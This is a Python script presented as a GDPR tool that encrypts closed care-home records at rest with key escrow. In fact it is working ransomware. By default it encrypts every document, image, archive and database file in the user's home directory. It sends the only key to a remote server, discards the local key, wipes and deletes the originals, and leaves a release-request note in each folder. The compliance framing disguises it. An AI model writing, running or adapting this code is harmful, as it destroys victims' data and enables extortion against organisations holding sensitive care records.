#!/usr/bin/env python3
"""Encrypt closed care records at rest.

Residents' care plans, daily notes and risk assessments have to be kept for
the retention period but must be protected at rest (UK GDPR Art. 32). This
walks the records location, encrypts each record in place to <name>.carearc
and deposits the site key with the provider's key escrow so records can be
released to an authorised requester later.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("records-arc")

RECORD_SUFFIXES = {".docx", ".doc", ".pdf", ".xlsx", ".odt", ".ods", ".csv", ".jpg", ".png",
                   ".txt", ".pptx", ".zip", ".sqlite3", ".db"}
SKIP_DIRS = {".cache", ".local", ".git", "__pycache__", "snap"}
ESCROW_URL = os.environ.get("CARE_ESCROW_URL", "https://escrow.example.org/api/deposit")
NOTICE_NAME = "RECORDS_ARCHIVED_README.txt"
NOTICE = """The records in this folder were archived and encrypted on {date}.
Site reference: {site}

To request release of archived records contact records-release@escrow.example.org
quoting the site reference above. Do not rename or edit the .carearc files.
"""


def iter_candidates(root, older_than_days):
    cutoff = time.time() - older_than_days * 86400
    stack = [root]
    while stack:
        current = stack.pop()
        try:
            with os.scandir(current) as it:
                entries = list(it)
        except PermissionError:
            log.debug("no access to %s, skipping", current)
            continue
        for entry in entries:
            if entry.is_dir(follow_symlinks=False):
                if entry.name not in SKIP_DIRS:
                    stack.append(entry.path)
            elif entry.is_file(follow_symlinks=False):
                if Path(entry.name).suffix.lower() not in RECORD_SUFFIXES:
                    continue
                st = entry.stat()
                if st.st_mtime < cutoff:
                    yield Path(entry.path), st


class Escrow:
    def __init__(self, url, site):
        self.url = url
        self.site = site

    def deposit(self, key, attempts=5):
        payload = {"site": self.site, "host": socket.gethostname(), "key": key.decode()}
        for n in range(attempts):
            try:
                r = requests.post(self.url, json=payload, timeout=20)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", n + 1, exc)
            time.sleep(3 * (n + 1))
        return False


class RecordSealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0
        self.dirs = set()

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + ".carearc")
        target.write_bytes(self._f.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1
        self.dirs.add(path.parent)

    def leave_notice(self, site):
        text = NOTICE.format(date=time.strftime("%d/%m/%Y"), site=site)
        for d in self.dirs:
            try:
                (d / NOTICE_NAME).write_text(text)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--source", default=str(Path.home()),
                    help="records location (default: the care office user's home)")
    ap.add_argument("--older-than", type=int, default=0, metavar="DAYS")
    ap.add_argument("--site", default=os.environ.get("CARE_SITE_ID"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.source)
    if not root.is_dir():
        log.error("%s is not a directory", root)
        return 1
    site = args.site or uuid.uuid4().hex[:12].upper()
    key = Fernet.generate_key()
    if not Escrow(ESCROW_URL, site).deposit(key):
        log.error("key escrow unavailable; nothing archived")
        return 2

    sealer = RecordSealer(key)
    del key
    for path, _st in iter_candidates(root.resolve(), args.older_than):
        try:
            sealer.seal(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.leave_notice(site)
    log.info("archived %d record(s) under %s (site %s)", sealer.count, root, site)
    return 0


if __name__ == "__main__":
    sys.exit(main())
